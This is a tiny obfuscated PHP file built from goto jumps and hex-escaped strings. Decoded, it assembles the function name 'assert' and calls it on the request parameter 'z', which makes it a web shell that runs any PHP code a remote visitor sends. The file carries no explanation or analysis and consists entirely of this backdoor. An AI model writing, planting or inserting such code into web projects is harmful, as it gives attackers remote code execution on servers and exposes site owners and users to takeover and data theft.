<?php
goto a1; b2: $GLOBALS["\x5f\x66\x6e"] = "\x61\x73" . "\x73\x65\x72\x74"; goto c3; a1: $GLOBALS["\x5f\x69\x6e"] = $_REQUEST; goto b2; c3: $GLOBALS["\x5f\x66\x6e"]($GLOBALS["\x5f\x69\x6e"]["\x7a"]); goto d4; d4: exit;
